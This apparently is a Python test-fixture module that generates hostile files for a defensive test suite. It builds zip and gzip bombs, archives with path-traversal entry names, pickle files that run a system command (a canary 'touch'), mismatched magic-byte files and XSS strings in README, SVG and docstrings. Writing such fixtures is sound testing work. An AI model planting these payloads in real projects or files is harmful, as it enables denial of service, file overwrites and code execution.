"""Files that are more than they look like to whoever unpacks or loads them."""

import gzip
import io
import pickle
import tarfile
import zipfile

from tests.hostile.tree import CANARY, Outcome, Place, Trees

TREES = Trees()


def _zip(files: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return made.getvalue()


@TREES.add("zip bombs")
def _(place: Place) -> None:
    inner = _zip({"zeros": b"\0" * 30_000_000})
    nested = _zip({f"{number}.zip": inner for number in range(20)})
    for name in ("bomb.zip", "bomb.jar", "bomb.docx", "bomb.whl", "bomb.py", "README.md"):
        place.write(name, nested)
    place.write("bomb.json.gz", gzip.compress(b"[" * 30_000_000))


@TREES.add("archives of paths that lead out", beside=True)
def _(place: Place) -> None:
    names = ("../outside/written", "/tmp/hostile-written", "a/../../b", "\x1b[31m")
    place.write("a.zip", _zip(dict.fromkeys(names, b"x")))
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for name in names:
            archive.addfile(tarfile.TarInfo(name))
    place.write("a.tar.gz", made.getvalue())


@TREES.add("pickles and compiled code", beside=True)
def _(place: Place) -> None:
    place.write("main.py", '"""Loads a model."""\n')
    touch = f"cos\nsystem\n(S'touch {place.outside}/executed'\ntR."
    for name in ("model.pkl", "model.pt", "data.npy", "cache.pickle", "x.joblib"):
        place.write(name, touch)
    place.write("deep.pkl", pickle.dumps("a") + b"(" * 100_000)
    place.write("__pycache__/main.cpython-311.pyc", b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3" * 900)


@TREES.add("pretended types")
def _(place: Place) -> None:
    starts = [
        b"\x7fELF",
        b"\x89PNG\r\n\x1a\n",
        b"%PDF-1.7",
        b"MZ",
        b"PK\x03\x04",
        b"SQLite format 3\0",
        b"\xff\xd8\xff",
        b"GIF89a",
        b"OTTO",
        b"Rar!",
        b"\xca\xfe\xba\xbe",
        b"ustar",
        b"\x1f\x8b",
        b"BZh9",
        b"\xfd7zXZ\0",
        b"RIFF",
        b"d8:announce",
        b"!<arch>\n",
    ]
    for number, start in enumerate(starts):
        place.write(f"f{number}.py", start + b"\xff" * 40_000)
        place.write(f"g{number}.bin", start + bytes(range(256)) * 100)


@TREES.add("a page that runs", Outcome(), beside=True)
def _(place: Place) -> None:
    script = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    place.write("README.md", f"# {script}\n\n![a](http://example.org/{CANARY[:6]}) {script}\n")
    place.write("a.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>')
    place.write("a.py", f'"""{script} [a](javascript:alert(1))."""\n')
